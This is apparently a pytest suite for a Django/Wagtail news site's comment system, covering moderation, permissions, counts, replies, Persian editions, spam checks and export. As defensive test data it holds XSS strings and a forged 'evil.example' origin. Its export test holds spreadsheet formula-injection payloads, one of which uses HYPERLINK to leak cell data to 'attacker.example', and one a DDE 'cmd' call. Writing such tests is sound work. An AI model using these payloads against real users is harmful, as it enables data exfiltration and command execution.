"""Readers' comments on articles: posting, spam rules, moderation, counts, editions."""

import csv
import io
import re
import time

import pytest
from django.conf import settings
from django.contrib.auth.models import Group, Permission
from django.contrib.staticfiles import finders
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Page

from core.factories import SiteSettingsFactory
from core.models import SiteSettings
from news.comments import COMMENT_RATE_LIMIT
from news.factories import ArticlePageFactory, CommentFactory
from news.models import ArticlePage, Comment
from reader_input.antispam import HONEYPOT_FIELD, TOKEN_FIELD, make_token
from tests.editions_helpers import locale, make_edition, translate
from tests.reader_forms import ORIGIN, edition_url, post_comment

LIST_URL = "/admin/snippets/news/comment/"
Status = Comment.Status


@pytest.fixture
def article(article_index, site_settings):
    return ArticlePageFactory(parent=article_index, title="Families ask for news")


@pytest.fixture
def moderator(django_user_model):
    user = django_user_model.objects.create_user("moderator", password="x" * 12)
    user.groups.add(Group.objects.get(name="Comment moderators"))
    return user


@pytest.fixture
def staff(django_user_model):
    """Someone who may use the admin (an editor, a translator) but not moderate comments."""
    user = django_user_model.objects.create_user("editor", password="x" * 12)
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    return user


def comment_data(**overrides):
    return {"name": "Leyla", "email": "", "text": "Thank you for this report.", **overrides}


def html_of(response):
    return response.content.decode()


def comments_html(response):
    """The comments section of an article page (empty when there is none)."""
    match = re.search(r'<section class="comments".*?</section>', html_of(response), re.S)
    return match.group(0) if match else ""


def bulk(client, action, comments):
    ids = "&".join(f"id={comment.pk}" for comment in comments)
    return client.post(f"/admin/bulk/news/comment/{action}/?next={LIST_URL}&{ids}")


# --- Posting and moderation -------------------------------------------------------------------


@pytest.mark.django_db
def test_a_new_comment_waits_for_moderation(client, article):
    response = post_comment(
        client,
        article,
        comment_data(email="leyla@example.org"),
        HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64) " + "x" * 400,
    )
    assert response.status_code == 302
    assert response["Location"] == f"{article.url}?comment=pending#comments"
    assert "no-store" in response["Cache-Control"]

    comment = Comment.objects.get()
    assert (comment.page_id, comment.status, comment.parent) == (article.pk, Status.PENDING, None)
    assert comment.email == "leyla@example.org"
    assert comment.locale.language_code == "en"
    # A keyed hash of the sender's address, never the address itself.
    assert re.fullmatch(r"[0-9a-f]{64}", comment.ip_hash)
    assert "127.0.0.1" not in comment.ip_hash
    assert comment.user_agent.startswith("Mozilla/5.0") and len(comment.user_agent) == 255

    page = client.get(article.url)
    assert "Thank you for this report." not in html_of(page)
    assert "leyla@example.org" not in html_of(page)
    notice = client.get(f"{article.url}?comment=pending")
    assert "will appear here once a moderator has approved it" in html_of(notice)


@pytest.mark.django_db
def test_approved_comments_are_shown_and_counted(client, admin_client, article, article_index):
    post_comment(client, article, comment_data())
    comment = Comment.objects.get()

    response = bulk(admin_client, "approve", [comment])
    assert response.status_code == 302
    comment.refresh_from_db()
    assert comment.status == Status.APPROVED

    page = client.get(article.url)
    section = comments_html(page)
    assert "Thank you for this report." in section and "Leyla" in section
    assert 'id="comments-title">1 comment</h2>' in section
    assert (
        '<a class="comment-count" href="/en/articles/families-ask-for-news/#comments">1 comment'
        in (html_of(page))
    )
    listing = client.get(article_index.url)
    assert "1 comment</a>" in html_of(listing)


@pytest.mark.django_db
@pytest.mark.parametrize("action, status", [("reject", Status.REJECTED), ("spam", Status.SPAM)])
def test_rejected_and_spam_comments_are_hidden(client, admin_client, article, action, status):
    kept = CommentFactory(page=article, text="A kind word.")
    removed = CommentFactory(page=article, text="Buy cheap pills")
    confirm = admin_client.get(
        f"/admin/bulk/news/comment/{action}/?next={LIST_URL}&id={removed.pk}"
    )
    assert confirm.status_code == 200 and "Buy cheap pills" in html_of(confirm)

    bulk(admin_client, action, [removed])
    removed.refresh_from_db()
    kept.refresh_from_db()
    assert (removed.status, kept.status) == (status, Status.APPROVED)
    section = comments_html(client.get(article.url))
    assert "A kind word." in section and "Buy cheap pills" not in section
    assert "1 comment</h2>" in section


@pytest.mark.django_db
def test_bulk_actions_change_many_comments_at_once(admin_client, article):
    pending = CommentFactory.create_batch(3, page=article, status=Status.PENDING)
    response = bulk(admin_client, "approve", pending)
    assert response.status_code == 302 and response["Location"] == LIST_URL
    assert set(Comment.objects.values_list("status", flat=True)) == {Status.APPROVED}
    messages = [str(m).strip() for m in response.wsgi_request._messages]
    assert messages == ["3 comments approved."]


@pytest.mark.django_db
def test_moderators_list_filter_and_search_comments(client, moderator, article, home_page):
    CommentFactory(page=article, text="Pending words", status=Status.PENDING, name="Arben")
    CommentFactory(page=article, text="Approved words", status=Status.APPROVED)
    make_edition(home_page, "fa")
    persian = translate(article, "fa", {"Families ask for news": "خانواده‌ها خبر می‌خواهند"})
    CommentFactory(page=persian, text="نظر فارسی", status=Status.PENDING)

    client.force_login(moderator)
    html = html_of(client.get(LIST_URL))
    assert "Pending words" in html and "Approved words" in html and "نظر فارسی" in html
    assert "Families ask for news" in html  # the article column

    html = html_of(client.get(LIST_URL, {"status": "pending"}))
    assert "Pending words" in html and "Approved words" not in html
    html = html_of(client.get(LIST_URL, {"edition": "fa"}))
    assert "نظر فارسی" in html and "Pending words" not in html
    html = html_of(client.get(LIST_URL, {"q": "arben"}))
    assert "Pending words" in html and "Approved words" not in html
    html = html_of(client.get(LIST_URL, {"created_at_from": "2100-01-01"}))
    assert "Pending words" not in html

    # The dashboard tells moderators how many comments wait.
    assert "2 comments awaiting moderation" in html_of(client.get("/admin/"))

    # Moderators approve in bulk, one by one in the edit view too.
    comment = Comment.objects.get(text="Pending words")
    assert bulk(client, "approve", [comment]).status_code == 302
    comment.refresh_from_db()
    assert comment.status == Status.APPROVED
    edit = client.get(reverse("wagtailsnippets_news_comment:edit", args=[comment.pk]))
    assert edit.status_code == 200


@pytest.mark.django_db
def test_moderation_is_recorded_in_each_comments_history(admin_client, article):
    comment = CommentFactory(page=article, status=Status.PENDING)
    bulk(admin_client, "spam", [comment])
    history = admin_client.get(reverse("wagtailsnippets_news_comment:history", args=[comment.pk]))
    assert history.status_code == 200
    assert "Marked as spam" in html_of(history)


@pytest.mark.django_db
def test_moderators_can_also_approve_one_comment_in_its_edit_view(client, moderator, article):
    comment = CommentFactory(page=article, status=Status.PENDING, text="Edited by hand")
    client.force_login(moderator)
    url = reverse("wagtailsnippets_news_comment:edit", args=[comment.pk])
    response = client.post(
        url, {"status": "approved", "name": comment.name, "text": "Edited by hand", "email": ""}
    )
    assert response.status_code == 302
    comment.refresh_from_db()
    assert comment.status == Status.APPROVED and comment.page_id == article.pk


@pytest.mark.django_db
def test_only_moderators_moderate(client, staff, article, django_user_model):
    comment = CommentFactory(page=article, status=Status.PENDING)

    # Anonymous readers are sent to the admin login.
    for response in (client.get(LIST_URL), bulk(client, "approve", [comment])):
        assert response.status_code == 302 and "/admin/login/" in response["Location"]

    # Staff without the comment permissions can neither list nor moderate (Wagtail's admin
    # turns the refusal into a redirect to the dashboard with an error message).
    client.force_login(staff)
    for response in (
        client.get(LIST_URL),
        bulk(client, "approve", [comment]),
        bulk(client, "spam", [comment]),
    ):
        assert response.status_code == 302 and response["Location"] == "/admin/"
    comment.refresh_from_db()
    assert comment.status == Status.PENDING
    assert "awaiting moderation" not in html_of(client.get("/admin/"))

    # Wagtail's own Moderators group may moderate.
    wagtail_moderator = django_user_model.objects.create_user("mod2", password="x" * 12)
    wagtail_moderator.groups.add(Group.objects.get(name="Moderators"))
    client.force_login(wagtail_moderator)
    assert client.get(LIST_URL).status_code == 200
    bulk(client, "reject", [comment])
    comment.refresh_from_db()
    assert comment.status == Status.REJECTED


@pytest.mark.django_db
def test_nobody_adds_comments_in_the_admin(admin_client, moderator, client):
    add_url = reverse("wagtailsnippets_news_comment:add")
    assert admin_client.get(add_url).status_code in (302, 403)
    client.force_login(moderator)
    assert client.get(add_url).status_code in (302, 403)


def test_moderator_groups_have_exactly_the_comment_rights(db):
    for name in ("Comment moderators", "Moderators"):
        codenames = set(
            Group.objects.get(name=name)
            .permissions.filter(content_type__app_label__in=["news", "wagtailadmin"])
            .values_list("codename", flat=True)
        )
        assert {"access_admin", "change_comment", "view_comment"} <= codenames
        assert "delete_comment" not in codenames and "add_comment" not in codenames


# --- Counts -----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_counts_include_only_what_readers_see(client, article, article_index):
    first = CommentFactory(page=article)
    CommentFactory(page=article, parent=first)
    CommentFactory(page=article, status=Status.PENDING)
    CommentFactory(page=article, status=Status.SPAM)
    rejected = CommentFactory(page=article, status=Status.REJECTED)
    CommentFactory(page=article, parent=rejected)  # approved, but under a rejected comment

    listed = ArticlePage.objects.listed(locale=article.locale).get(pk=article.pk)
    assert listed.approved_comment_count == 2
    assert "2 comments</a>" in html_of(client.get(article_index.url))
    page = client.get(article.url)
    assert "2 comments</h2>" in comments_html(page)
    assert page.context["comment_section"].count == 2


@pytest.mark.django_db
def test_zero_comments_are_shown_only_where_readers_can_comment(client, article, article_index):
    closed = ArticlePageFactory(parent=article_index, title="Closed", comments_open=False)
    html = html_of(client.get(article_index.url))
    assert f'href="{article.url}#comments">0 comments</a>' in html
    assert f'href="{closed.url}#comments"' not in html


@pytest.mark.django_db
def test_counts_and_comments_disappear_when_switched_off_site_wide(client, article, article_index):
    CommentFactory(page=article, text="Visible while enabled.")
    SiteSettings.objects.update(comments_enabled=False)
    page = client.get(article.url)
    assert comments_html(page) == ""
    assert "Visible while enabled." not in html_of(page)
    assert "comment-count" not in html_of(page)
    assert "comment-count" not in html_of(client.get(article_index.url))
    response = post_comment(client, article, comment_data())
    assert response.status_code == 403
    assert Comment.objects.count() == 1


@pytest.mark.django_db
def test_persian_counts_use_persian_digits(client, article, home_page):
    make_edition(home_page, "fa")
    persian = translate(article, "fa", {"Families ask for news": "خانواده‌ها خبر می‌خواهند"})
    CommentFactory.create_batch(12, page=persian)
    html = html_of(client.get(persian.url))
    assert "۱۲" in comments_html(client.get(persian.url))
    assert 'class="comment-count"' in html


@pytest.mark.django_db
def test_listing_queries_do_not_grow_with_the_number_of_articles(client, article_index):
    SiteSettingsFactory()
    SiteSettings.objects.update(articles_per_page=20)

    def articles_with_comments(count):
        for _ in range(count):
            article = ArticlePageFactory(parent=article_index)
            parent = CommentFactory(page=article)
            CommentFactory(page=article, parent=parent)
            CommentFactory(page=article, status=Status.PENDING)

    articles_with_comments(2)
    client.get(article_index.url)  # warm per-process caches (content types, site root paths)
    with CaptureQueriesContext(connection) as few:
        response = client.get(article_index.url)
    assert len(response.context["articles"]) == 2
    articles_with_comments(10)
    # Publishing refreshed the cached "Recent posts" sidebar (caching.values): warm again.
    client.get(article_index.url)
    with CaptureQueriesContext(connection) as many:
        response = client.get(article_index.url)
    assert len(response.context["articles"]) == 12
    assert "2 comments</a>" in html_of(response)
    assert len(many) == len(few), [query["sql"] for query in many.captured_queries]


# --- The article page -------------------------------------------------------------------------


@pytest.mark.django_db
def test_comments_oldest_first_with_replies_nested(client, article):
    first = CommentFactory(page=article, text="First comment")
    second = CommentFactory(page=article, text="Second comment")
    reply = CommentFactory(page=article, parent=first, text="A reply to the first")
    section = comments_html(client.get(article.url))
    assert section.index("First comment") < section.index("A reply to the first")
    assert section.index("A reply to the first") < section.index("Second comment")
    replies = re.search(r'<ol class="comment-list comment-list--replies".*?</ol>', section, re.S)
    assert f'id="comment-{reply.pk}"' in replies.group(0)
    # Top-level comments can be replied to (a link, no JavaScript needed); replies cannot.
    assert f'?reply_to={first.pk}#comment-form"' in section
    assert f'?reply_to={second.pk}#comment-form"' in section
    assert f"?reply_to={reply.pk}" not in section


@pytest.mark.django_db
def test_comment_text_is_escaped_and_links_pass_no_reputation(client, article):
    CommentFactory(
        page=article,
        name="<b>Mallory</b>",
        text=(
            "<script>alert('x')</script> <img src=x onerror=alert(1)>\n"
            "See https://example.org/report?a=1&b=2 and javascript:alert(1)\n\n"
            "Second paragraph."
        ),
    )
    section = comments_html(client.get(article.url))
    assert "<script>" not in section and "<img" not in section and "<b>" not in section
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in section
    assert "&lt;b&gt;Mallory&lt;/b&gt;" in section
    assert (
        '<a href="https://example.org/report?a=1&amp;b=2" rel="nofollow ugc noopener">' in section
    )
    assert 'href="javascript' not in section
    assert "<br>" in section and '<p dir="auto">Second paragraph.</p>' in section


@pytest.mark.django_db
def test_rtl_and_emoji_text_is_stored_and_shown_as_written(client, article, admin_client):
    text = "سلام، ممنون از گزارش‌تان 🙏🏽 — English words inside"
    post_comment(client, article, comment_data(name="سارا ✨", text=text))
    comment = Comment.objects.get()
    assert (comment.name, comment.text) == ("سارا ✨", text)
    bulk(admin_client, "approve", [comment])
    section = comments_html(client.get(article.url))
    assert f'<p dir="auto">{text}</p>' in section
    assert "<bdi>سارا ✨</bdi>" in section


@pytest.mark.django_db
def test_an_invalid_comment_is_shown_again_with_errors_and_the_readers_text(client, article):
    response = post_comment(
        client, article, comment_data(email="not-an-address", text="My long thoughts")
    )
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    section = comments_html(response)
    assert "There is a problem with your comment" in section
    assert "My long thoughts</textarea>" in section
    assert 'aria-invalid="true"' in section
    assert not Comment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "overrides",
    [
        {"text": ""},
        {"text": "  \r\n\t "},
        {"name": ""},
        {"name": "x" * 81},
        {"text": "x" * 3001},
        {"email": "not-an-address"},
        {"email": "a" * 250 + "@example.org"},
        {"reply_to": "abc"},
    ],
)
def test_bad_input_is_refused_and_nothing_stored(client, article, overrides):
    response = post_comment(client, article, comment_data(**overrides))
    assert response.status_code == 200
    assert "There is a problem with your comment" in html_of(response)
    # Every error is listed for the reader, a bad hidden reply_to included.
    assert re.search(r'class="error-summary".*?<ul role="list">\s*<li>', html_of(response), re.S)
    assert not Comment.objects.exists()


@pytest.mark.django_db
def test_a_double_submit_is_stored_once(client, article):
    first = post_comment(client, article, comment_data())
    second = post_comment(client, article, comment_data())
    assert first.status_code == second.status_code == 302
    assert Comment.objects.count() == 1
    assert post_comment(client, article, comment_data(text="Something else")).status_code == 302
    assert Comment.objects.count() == 2


@pytest.mark.django_db
def test_the_longest_comments_are_accepted(client, article):
    text = ("y" * 59 + "\r\n") * 50  # 3000 characters as typed (line breaks count once)
    response = post_comment(client, article, comment_data(name="n" * 80, text=text))
    assert response.status_code == 302
    assert len(Comment.objects.get().text) == 2999  # the last line break is stripped


@pytest.mark.django_db
def test_the_article_page_carries_no_csrf_token_and_has_the_comment_styles(client, article):
    response = client.get(article.url)
    html = html_of(response)
    assert "csrfmiddlewaretoken" not in html and "csrftoken" not in response.cookies
    # The comment styles are part of site.css: no second render-blocking stylesheet.
    (stylesheet,) = re.findall(r'<link rel="stylesheet" href="([^"]+)"', html)
    with open(finders.find(stylesheet.removeprefix(settings.STATIC_URL)), encoding="utf-8") as css:
        assert ".comment-list {" in css.read()
    assert f'action="{edition_url("post_comment", article)}"' in html
    assert f'name="{TOKEN_FIELD}"' in html and f'name="{HONEYPOT_FIELD}"' in html


# --- Closed, unknown and foreign pages ------------------------------------------------------


@pytest.mark.django_db
def test_closed_comments_stay_visible_but_take_no_more(client, article):
    CommentFactory(page=article, text="Said before closing.")
    article.comments_open = False
    article.save_revision().publish()
    page = client.get(article.url)
    section = comments_html(page)
    assert "Said before closing." in section
    assert "Comments are closed." in section
    assert "<form" not in section and "reply_to=" not in section
    response = post_comment(client, article, comment_data())
    assert response.status_code == 403
    assert Comment.objects.count() == 1


@pytest.mark.django_db
def test_posting_to_what_is_not_a_published_article_is_404(client, article, home_page):
    assert (
        post_comment(client, Page.objects.get(pk=home_page.pk), comment_data()).status_code == 404
    )
    assert client.post("/en/comments/999999/post/", comment_data()).status_code == 404
    draft = ArticlePageFactory(parent=article.get_parent(), live=False)
    assert post_comment(client, draft, comment_data()).status_code == 404
    assert client.get(edition_url("post_comment", article)).status_code == 405
    assert not Comment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "headers",
    [{"HTTP_ORIGIN": "https://evil.example"}, {"HTTP_REFERER": "https://evil.example/"}, {}],
)
def test_posts_from_other_sites_are_refused(client, article, headers):
    response = post_comment(client, article, comment_data(), origin=None, **headers)
    assert response.status_code == 403
    assert not Comment.objects.exists()


# --- Spam rules -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_honeypot(client, article):
    response = post_comment(client, article, comment_data(**{HONEYPOT_FIELD: "spam"}))
    assert "a field that must stay empty was filled in" in html_of(response)
    assert not Comment.objects.exists()


@pytest.mark.django_db
def test_too_fast(client, article):
    response = post_comment(client, article, comment_data(), age=1)
    assert "quicker than anyone can type" in html_of(response)
    assert not Comment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["missing", "tampered", "another_article"])
def test_bad_token(client, article, article_index, kind):
    good = make_token(f"comment:{article.pk}", time.time() - 60)
    other = ArticlePageFactory(parent=article_index)
    tokens = {
        "missing": "",
        "tampered": good.replace(":", ";", 1),
        "another_article": make_token(f"comment:{other.pk}", time.time() - 60),
    }
    response = post_comment(client, article, comment_data(**{TOKEN_FIELD: tokens[kind]}))
    assert "This form has expired or was changed" in html_of(response)
    assert not Comment.objects.exists()


@pytest.mark.django_db
def test_rate_limit_after_n_comments(client, article):
    for number in range(COMMENT_RATE_LIMIT.limit):
        response = post_comment(client, article, comment_data(text=f"Comment {number}"))
        assert response.status_code == 302
    response = post_comment(client, article, comment_data(text="One too many"))
    assert response.status_code == 429
    assert "several messages in a short time" in html_of(response)
    assert "One too many</textarea>" in html_of(response)
    assert Comment.objects.count() == COMMENT_RATE_LIMIT.limit
    # Someone else may still comment.
    other = post_comment(client, article, comment_data(), REMOTE_ADDR="2001:db8:1::5")
    assert other.status_code == 302
    # ... but not from elsewhere in the same IPv6 /64 after reaching the limit.
    for number in range(COMMENT_RATE_LIMIT.limit - 1):
        post_comment(
            client, article, comment_data(text=f"v6 {number}"), REMOTE_ADDR="2001:db8:1::6"
        )
    blocked = post_comment(client, article, comment_data(), REMOTE_ADDR="2001:db8:1::ffff")
    assert blocked.status_code == 429


# --- Replies --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_replying_without_javascript(client, admin_client, article):
    parent = CommentFactory(page=article, name="Arben", text="What about the archives?")
    page = client.get(f"{article.url}?reply_to={parent.pk}")
    section = comments_html(page)
    assert "Reply to <bdi>Arben</bdi>" in section
    assert f'name="reply_to" value="{parent.pk}"' in section
    assert "Cancel reply" in section

    response = post_comment(
        client, article, comment_data(text="They open in May.", reply_to=parent.pk)
    )
    assert response.status_code == 302
    reply = Comment.objects.get(text="They open in May.")
    assert reply.parent == parent and reply.status == Status.PENDING
    bulk(admin_client, "approve", [reply])
    section = comments_html(client.get(article.url))
    replies = re.search(r'<ol class="comment-list comment-list--replies".*?</ol>', section, re.S)
    assert "They open in May." in replies.group(0)


@pytest.mark.django_db
def test_a_reply_to_an_unknown_comment_is_ignored_on_the_page(client, article):
    section = comments_html(client.get(f"{article.url}?reply_to=987654"))
    assert "Leave a comment" in section and "Cancel reply" not in section


@pytest.mark.django_db
@pytest.mark.parametrize("target", ["reply", "pending", "other_article", "rejected"])
def test_replies_go_one_level_deep_to_published_comments_only(
    client, article, article_index, target
):
    top = CommentFactory(page=article)
    targets = {
        "reply": lambda: CommentFactory(page=article, parent=top),
        "pending": lambda: CommentFactory(page=article, status=Status.PENDING),
        "other_article": lambda: CommentFactory(page=ArticlePageFactory(parent=article_index)),
        "rejected": lambda: CommentFactory(page=article, status=Status.REJECTED),
    }
    parent = targets[target]()
    before = Comment.objects.count()
    response = post_comment(client, article, comment_data(reply_to=parent.pk))
    assert response.status_code == 200
    assert "replies go to published comments, not to other replies" in html_of(response)
    assert Comment.objects.count() == before


def test_the_model_refuses_a_reply_to_a_reply(db, article):
    from django.core.exceptions import ValidationError

    top = CommentFactory(page=article)
    reply = CommentFactory(page=article, parent=top)
    with pytest.raises(ValidationError):
        Comment(page=article, parent=reply, name="x", text="y").full_clean()


# --- Editions -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_comments_belong_to_the_edition_they_were_written_in(
    client, admin_client, article, home_page
):
    make_edition(home_page, "fa")
    translate(article.get_parent(), "fa", {"Articles": "مقاله‌ها"})
    persian = translate(article, "fa", {"Families ask for news": "خانواده‌ها خبر می‌خواهند"})

    response = post_comment(
        client, persian, comment_data(name="سارا", text="نظر من درباره این گزارش")
    )
    assert response.status_code == 302
    assert response["Location"].startswith("/fa/")
    comment = Comment.objects.get()
    assert comment.page_id == persian.pk and comment.locale == locale("fa")
    bulk(admin_client, "approve", [comment])

    persian_page = client.get(persian.url)
    assert "نظر من درباره این گزارش" in comments_html(persian_page)
    assert "۱" in comments_html(persian_page)  # Persian digits in "۱ comment"
    english_page = client.get(article.url)
    assert "نظر من درباره این گزارش" not in html_of(english_page)
    assert "0 comments" in html_of(english_page)
    assert (
        ArticlePage.objects.listed(locale=locale("en")).get(pk=article.pk).approved_comment_count
        == 0
    )
    assert (
        ArticlePage.objects.listed(locale=locale("fa")).get(pk=persian.pk).approved_comment_count
        == 1
    )

    # Posting to the Persian article through the English prefix is not a thing.
    with_english_prefix = client.post(
        f"/en/comments/{persian.pk}/post/", comment_data(), HTTP_ORIGIN="http://testserver"
    )
    assert with_english_prefix.status_code == 404


@pytest.mark.django_db
def test_alias_pages_take_no_comments(client, article, home_page):
    make_edition(home_page, "fa")
    persian_index = translate(article.get_parent(), "fa", {"Articles": "مقاله‌ها"})
    alias = article.create_alias(parent=persian_index, update_locale=locale("fa"))
    CommentFactory(page=article, text="An English comment")
    page = client.get(alias.url)
    assert page.status_code == 200
    assert comments_html(page) == "" and "An English comment" not in html_of(page)
    assert post_comment(client, alias, comment_data()).status_code == 404


@pytest.mark.django_db
def test_persian_comment_dates_use_the_solar_calendar(client, article, home_page):
    import datetime

    from django.utils import timezone

    make_edition(home_page, "fa")
    persian = translate(article, "fa", {"Families ask for news": "خانواده‌ها خبر می‌خواهند"})
    CommentFactory(
        page=persian, created_at=timezone.make_aware(datetime.datetime(2011, 12, 29, 12, 0))
    )
    assert "۸ دی ۱۳۹۰" in comments_html(client.get(persian.url))


@pytest.mark.django_db
def test_each_edition_closes_its_own_translation(client, article, home_page):
    make_edition(home_page, "fa")
    persian = translate(article, "fa", {"Families ask for news": "خانواده‌ها خبر می‌خواهند"})
    persian.comments_open = False
    persian.save_revision().publish()
    assert "بخش دیدگاه‌ها بسته است." in comments_html(client.get(persian.url))
    assert "<form" in comments_html(client.get(article.url))
    assert post_comment(client, persian, comment_data()).status_code == 403
    assert post_comment(Client(), article, comment_data()).status_code == 302


# --- Export -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_exported_comments_never_run_as_formulas(client, moderator, article):
    """Cells starting with = + - @, a tab or a carriage return are exported with a leading
    quote, in CSV and XLSX: a spreadsheet shows them as text instead of running them."""
    formulas = [
        '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]
    for formula in formulas:
        CommentFactory(page=article, name=formula, text=formula, status=Status.PENDING)
    CommentFactory(page=article, name="Leyla", text="Two - and + are fine inside")
    expected = sorted(["'" + formula for formula in formulas] + ["Two - and + are fine inside"])
    client.force_login(moderator)

    response = client.get(LIST_URL, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert sorted(row["Comment"] for row in rows) == expected
    assert "'=HYPERLINK" in {row["Name"][:11] for row in rows}

    response = client.get(LIST_URL, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    column = headings.index("Comment")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed.
    assert sorted(cell.value.replace("\n", "\r") for cell in cells) == expected
    assert {cell.data_type for cell in cells} == {"s"}


# --- Ids out of range -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("page_id", ["9" * 19, "9" * 30])
def test_an_id_too_large_for_any_table_is_a_404_not_a_server_error(client, article, page_id):
    """SQLite cannot be asked about a number over 2**63 - 1 (OverflowError, a 500): such
    an address is no page's, and is refused before any query."""
    client.raise_request_exception = False
    response = client.post(f"/en/comments/{page_id}/post/", comment_data(), HTTP_ORIGIN=ORIGIN)
    assert response.status_code == 404


@pytest.mark.django_db
def test_replying_to_an_id_too_large_for_any_table_is_a_form_error(client, article):
    response = post_comment(client, article, comment_data(reply_to="9" * 20))
    assert response.status_code == 200
    assert "cannot be answered" in html_of(response)
    assert not Comment.objects.exists()
    assert client.get(article.url, {"reply_to": "9" * 30}).status_code == 200
